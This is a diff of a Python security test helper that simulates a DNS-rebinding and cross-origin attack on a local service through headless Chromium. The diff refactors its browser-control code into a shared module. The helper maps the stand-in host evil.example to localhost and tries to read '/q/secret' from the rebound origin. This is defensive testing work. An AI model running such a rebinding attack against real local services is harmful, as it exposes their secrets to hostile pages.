@@ -15,20 +15,12 @@ Prints one line `result <json>` with what the pages saw; the Rust test checks re
 """
 import http.server
 import json
-import os
-import shutil
-import subprocess
 import sys
-import tempfile
 import threading
-import time
-import urllib.request
 
-import websocket  # Debian: python3-websocket
+from cdp import chromium
 
 REPROW_PORT, TARGET = sys.argv[1], sys.argv[2]
-CHROMIUM = os.environ.get("REPROW_TEST_CHROMIUM") or shutil.which("chromium") or "chromium-browser"
-DEADLINE = 30
 
 ATTACK = """<!doctype html><html><body><script>
 const base = "http://127.0.0.1:%(port)s";
@@ -67,78 +59,25 @@ class Attacker(http.server.BaseHTTPRequestHandler):
         pass
 
 
-class Page:
-    def __init__(self, ws):
-        self.ws = ws
-        self.next_id = 0
-
-    def call(self, method, **params):
-        self.next_id += 1
-        self.ws.send(json.dumps({"id": self.next_id, "method": method, "params": params}))
-        while True:
-            msg = json.loads(self.ws.recv())
-            if msg.get("id") == self.next_id:
-                if "error" in msg:
-                    raise RuntimeError(f"{method}: {msg['error']}")
-                return msg["result"]
-
-    def eval(self, expr, await_promise=False):
-        r = self.call("Runtime.evaluate", expression=expr, returnByValue=True,
-                      awaitPromise=await_promise)
-        if "exceptionDetails" in r:
-            raise RuntimeError(f"{expr}: {r['exceptionDetails']}")
-        return r["result"].get("value")
-
-    def goto(self, url, ready):
-        self.call("Page.navigate", url=url)
-        end = time.time() + DEADLINE
-        while time.time() < end:
-            try:
-                value = self.eval(ready)
-                if value:
-                    return value
-            except RuntimeError:
-                pass
-            time.sleep(0.1)
-        raise SystemExit(f"timed out on {url}: {self.eval('document.body && document.body.innerText')}")
-
-
 def main():
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
     threading.Thread(target=server.serve_forever, daemon=True).start()
     evil_port = server.server_address[1]
-    profile = tempfile.mkdtemp(prefix="reprow-chromium-")
-    browser = subprocess.Popen(
-        [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu",
-         "--disable-background-networking", "--disable-dev-shm-usage", "--no-first-run",
-         "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.evil.example 127.0.0.1",
-         "--remote-debugging-port=0", f"--user-data-dir={profile}", "about:blank"],
-        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.evil.example 127.0.0.1"
     try:
-        port_file = os.path.join(profile, "DevToolsActivePort")
-        end = time.time() + DEADLINE
-        while not os.path.exists(port_file) or not open(port_file).read().strip():
-            if time.time() > end or browser.poll() is not None:
-                raise SystemExit("Chromium did not open its DevTools port")
-            time.sleep(0.1)
-        port = open(port_file).read().split()[0]
-        targets = json.loads(urllib.request.urlopen(f"http://127.0.0.1:{port}/json/list").read())
-        target = next(t for t in targets if t["type"] == "page")
-        page = Page(websocket.create_connection(target["webSocketDebuggerUrl"], timeout=30))
-        page.call("Page.enable")
-        sent = page.goto(f"http://evil.example:{evil_port}/", "window.attackDone")
-        rebound = f"http://rebind.evil.example:{REPROW_PORT}"
-        text = page.goto(rebound + "/", "document.readyState === 'complete' && document.body.innerText")
-        read = page.eval(
-            "fetch('/q/secret').then(async r => ({status: r.status, body: await r.text()}))",
-            await_promise=True)
-        print("result " + json.dumps({"sent": sent, "rebound_page": text, "rebound_read": read}),
-              flush=True)
+        with chromium("about:blank", rules) as page:
+            page.call("Page.enable")
+            sent = page.goto(f"http://evil.example:{evil_port}/", "window.attackDone")
+            rebound = f"http://rebind.evil.example:{REPROW_PORT}"
+            text = page.goto(rebound + "/",
+                             "document.readyState === 'complete' && document.body.innerText")
+            read = page.eval(
+                "fetch('/q/secret').then(async r => ({status: r.status, body: await r.text()}))",
+                await_promise=True)
+            print("result " + json.dumps({"sent": sent, "rebound_page": text,
+                                          "rebound_read": read}), flush=True)
     finally:
-        browser.kill()
-        browser.wait()
         server.shutdown()
-        shutil.rmtree(profile, ignore_errors=True)
 
 
 main()
